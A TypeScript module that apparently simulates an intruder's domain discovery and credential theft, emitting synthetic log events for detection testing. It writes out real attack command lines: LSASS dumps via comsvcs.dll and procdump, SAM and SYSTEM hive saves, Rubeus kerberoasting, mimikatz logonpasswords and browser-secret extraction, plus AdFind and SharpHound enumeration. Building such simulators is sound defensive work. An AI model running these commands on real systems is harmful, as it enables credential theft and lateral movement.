// Steps 5 and 6: the intruder looks around in the domain and takes credentials.
import { connects, opensProcess, profile, resolves, running, writesFile } from "../emit/process.ts";
import { PROGRAMS, type Program, program } from "../emit/programs.ts";
import { kerberosTicket, serviceTicket } from "../emit/security.ts";
import { MINUTE, SECOND, type World } from "../world.ts";
import { atVictim, held, run, type Scene, type Step } from "./scene.ts";

function builtIn(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const parent = held(scene.implant);
  const commands: (readonly [Program, string])[] = [
    [PROGRAMS.whoami, random.pick(["/all", "/groups", "/priv"])],
    [
      PROGRAMS.nltest,
      random.pick([
        "/domain_trusts",
        "/dclist:",
        "/domain_trusts /all_trusts",
        "/dclist:lk-heide.example",
      ]),
    ],
    [
      PROGRAMS.net,
      `group "${random.pick(["Domänen-Admins", "Domain Admins", "domain admins"])}" /domain`,
    ],
    [PROGRAMS.net, "view /all /domain"],
    [PROGRAMS.net, `user ${scene.stolen.account.name} /domain`],
    [PROGRAMS.ipconfig, "/all"],
    [PROGRAMS.systeminfo, ""],
    [PROGRAMS.quser, ""],
  ];
  let at = time;
  for (const [tool, line] of commands) {
    if (tool !== PROGRAMS.nltest && random.chance(0.25)) continue;
    const shell = random.chance(0.5)
      ? run(
          world,
          at,
          parent,
          PROGRAMS.cmd,
          `/c ${tool.path.slice(tool.path.lastIndexOf("\\") + 1).replace(".exe", "")} ${line}`,
        )
      : parent;
    const started = run(world, at + 300, shell, tool, line);
    if (tool === PROGRAMS.net) run(world, at + 340, started, PROGRAMS.net1, line);
    at += random.int(4, 90) * SECOND;
  }
  return at;
}

function directoryTool(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const parent = held(scene.implant);
  const file = `${scene.folder}\\${random.pick(["AdFind.exe", "af.exe", "find.exe", "adf.exe"])}`;
  writesFile(world, time, parent, file);
  const tool: Program = {
    ...program(file, "AdFind", "AdFind", "www.joeware.net", "AdFind.exe"),
    version: "1.56.00.5000",
  };
  let at = time + 3 * SECOND;
  for (const line of [
    "-f (objectcategory=person)",
    "-f objectcategory=computer",
    "-sc trustdmp",
    '-f "(objectcategory=group)"',
    "-subnets -f (objectCategory=subnet)",
  ]) {
    const started = run(world, at, parent, tool, line);
    connects(world, at + 200, started, {
      ip: scene.controller.ip,
      name: scene.controller.fqdn,
      port: 389,
    });
    at += random.int(3, 20) * SECOND;
  }
  return at;
}

function collector(world: World, scene: Scene, time: number): number {
  const { random, county } = world;
  const parent = held(scene.implant);
  const file = `${scene.folder}\\${random.pick(["SharpHound.exe", "sh.exe", "s.exe"])}`;
  const folder = `${profile(scene.victim.account)}\\AppData\\Local\\Temp`;
  writesFile(world, time, parent, file);
  const started = run(
    world,
    time + 2 * SECOND,
    parent,
    program(file, "SharpHound", "SharpHound", "SpecterOps", "SharpHound.exe"),
    random.pick([
      "-c All",
      "--CollectionMethods All --OutputDirectory .",
      "-c DCOnly,Session --zipfilename b.zip",
    ]),
  );
  resolves(world, time + 3 * SECOND, started, scene.controller.fqdn, scene.controller.ip);
  for (const server of [
    scene.controller,
    county.servers.files1,
    county.servers.files2,
    county.servers.print,
    county.servers.exchange,
  ]) {
    connects(world, time + random.int(4, 50) * SECOND, started, {
      ip: server.ip,
      name: server.fqdn,
      port: server === scene.controller ? 389 : 445,
    });
  }
  const stamp = `2026${random.int(1000, 1231)}${random.int(100000, 235959)}`;
  for (const kind of ["computers", "users", "groups", "domains"]) {
    writesFile(world, time + 55 * SECOND, started, `${folder}\\${stamp}_${kind}.json`);
  }
  writesFile(world, time + 60 * SECOND, started, `${folder}\\${stamp}_BloodHound.zip`);
  return time + 62 * SECOND;
}

export const DISCOVERY: Step = {
  id: "05-discovery",
  tactic: "discovery",
  knownToRules: true,
  variants: [
    {
      technique: "T1482",
      title: "Domäne mit Bordmitteln ausgekundschaftet",
      ...atVictim,
      run: builtIn,
    },
    {
      technique: "T1087.002",
      title: "Verzeichnis mit AdFind abgefragt",
      ...atVictim,
      run: directoryTool,
    },
    {
      technique: "T1069.002",
      title: "Rechte im Verzeichnis mit SharpHound gesammelt",
      ...atVictim,
      run: collector,
    },
  ],
};

const DUMP_TRACE =
  "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6cb0|C:\\Windows\\System32\\comsvcs.dll+3a1f";

function lsassDump(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const parent = held(scene.implant);
  const lsass = running(world, parent.host, PROGRAMS.lsass);
  const dump = `${scene.folder}\\${random.pick(["l.dmp", "lsass.dmp", `${random.hex(5)}.log`, "mem.bin"])}`;
  const procdump = {
    ...program(
      `${scene.folder}\\${random.pick(["procdump64.exe", "pd.exe", "p.exe"])}`,
      "Sysinternals process dump utility",
      "ProcDump",
      "Sysinternals - www.sysinternals.com",
      "procdump",
    ),
    version: "11.0",
  };
  const dumper = random.pick([
    () =>
      run(
        world,
        time,
        parent,
        PROGRAMS.rundll32,
        `C:\\windows\\system32\\comsvcs.dll, ${random.pick(["MiniDump", "#24", "minidump", "#+24"])} ${lsass.pid} ${dump} full`,
        { integrity: "High" },
      ),
    () => {
      writesFile(world, time, parent, procdump.path);
      return run(
        world,
        time + SECOND,
        parent,
        procdump,
        `-accepteula -ma ${random.pick(["lsass.exe", "lsass", String(lsass.pid)])} ${dump}`,
        { integrity: "High" },
      );
    },
    () => run(world, time, parent, PROGRAMS.taskmgr, "/4", { integrity: "High" }),
  ])();
  opensProcess(
    world,
    time + 2 * SECOND,
    dumper,
    lsass,
    random.pick(["0x1fffff", "0x1010", "0x1410", "0x1438"]),
    DUMP_TRACE,
  );
  writesFile(
    world,
    time + 5 * SECOND,
    dumper,
    dumper.image.endsWith("Taskmgr.exe")
      ? `${profile(scene.victim.account)}\\AppData\\Local\\Temp\\lsass.DMP`
      : dump,
  );
  return time + 8 * SECOND;
}

function registryHives(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const parent = held(scene.implant);
  let at = time;
  for (const hive of random.pick([
    ["sam", "system", "security"],
    ["SAM", "SYSTEM"],
    ["security", "system"],
  ])) {
    const file = `${scene.folder}\\${hive.slice(0, 3).toLowerCase()}.${random.pick(["hiv", "save", "tmp"])}`;
    const tool = run(
      world,
      at,
      parent,
      PROGRAMS.reg,
      `${random.pick(["save", "SAVE", "export"])} ${random.pick(["HKLM", "hklm", "HKEY_LOCAL_MACHINE"])}\\${hive} ${file}${random.chance(0.5) ? " /y" : ""}`,
      { integrity: "High" },
    );
    writesFile(world, at + 800, tool, file);
    at += random.int(3, 15) * SECOND;
  }
  return at;
}

function kerberoast(world: World, scene: Scene, time: number): number {
  const { random, county } = world;
  const parent = held(scene.implant);
  const tool = program(
    `${scene.folder}\\${random.pick(["Rubeus.exe", "r.exe", "rb.exe"])}`,
    "Rubeus",
    "Rubeus",
    "-",
    "Rubeus.exe",
  );
  writesFile(world, time, parent, tool.path);
  run(
    world,
    time + SECOND,
    parent,
    tool,
    random.pick([
      "kerberoast /outfile:h.txt /nowrap",
      "kerberoast /rc4opsec /format:hashcat",
      "kerberoast /stats",
    ]),
  );
  const { victim, controller } = scene;
  kerberosTicket(world, time + 1500, { account: victim.account, from: victim.host, controller });
  for (const [index, service] of Object.values(county.services).entries()) {
    serviceTicket(world, time + 2 * SECOND + index * random.int(20, 160), {
      account: victim.account,
      from: victim.host,
      controller,
      service,
      encryption: "0x17",
      ticketOptions: "0x40810010",
    });
  }
  return time + 4 * SECOND;
}

function browserSecrets(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const parent = held(scene.implant);
  const data = `${profile(scene.victim.account)}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Login Data`;
  const copy = run(
    world,
    time,
    parent,
    PROGRAMS.cmd,
    `/c copy "${data}" ${scene.folder}\\${random.hex(5)}.db`,
  );
  writesFile(world, time + 300, copy, `${scene.folder}\\${random.hex(5)}.db`);
  const tool = program(
    `${scene.folder}\\${random.pick(["mimikatz.exe", "m.exe", "mk64.exe"])}`,
    "mimikatz for Windows",
    "mimikatz",
    "gentilkiwi (Benjamin DELPY)",
    "mimikatz.exe",
  );
  writesFile(world, time + MINUTE, parent, tool.path);
  const started = run(
    world,
    time + MINUTE + SECOND,
    parent,
    tool,
    random.pick([
      '"privilege::debug" "sekurlsa::logonpasswords" exit',
      '"token::elevate" "lsadump::sam" exit',
      '"privilege::debug" "dpapi::chrome /in:%localappdata%" exit',
    ]),
    { integrity: "High" },
  );
  const lsass = running(world, parent.host, PROGRAMS.lsass);
  opensProcess(
    world,
    time + MINUTE + 2 * SECOND,
    started,
    lsass,
    "0x1010",
    `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|${tool.path}+c5a5c`,
  );
  return time + MINUTE + 5 * SECOND;
}

export const CREDENTIALS: Step = {
  id: "06-credentials",
  tactic: "credential-access",
  knownToRules: true,
  variants: [
    { technique: "T1003.001", title: "Speicher von LSASS ausgelesen", ...atVictim, run: lsassDump },
    {
      technique: "T1003.002",
      title: "Registrierungsdaten SAM und SYSTEM gesichert",
      ...atVictim,
      run: registryHives,
    },
    {
      technique: "T1558.003",
      title: "Diensttickets mit RC4 angefordert (Kerberoasting)",
      ...atVictim,
      run: kerberoast,
    },
    {
      technique: "T1555.003",
      title: "Kennwörter aus Browser und Speicher geholt",
      ...atVictim,
      run: browserSecrets,
    },
  ],
};
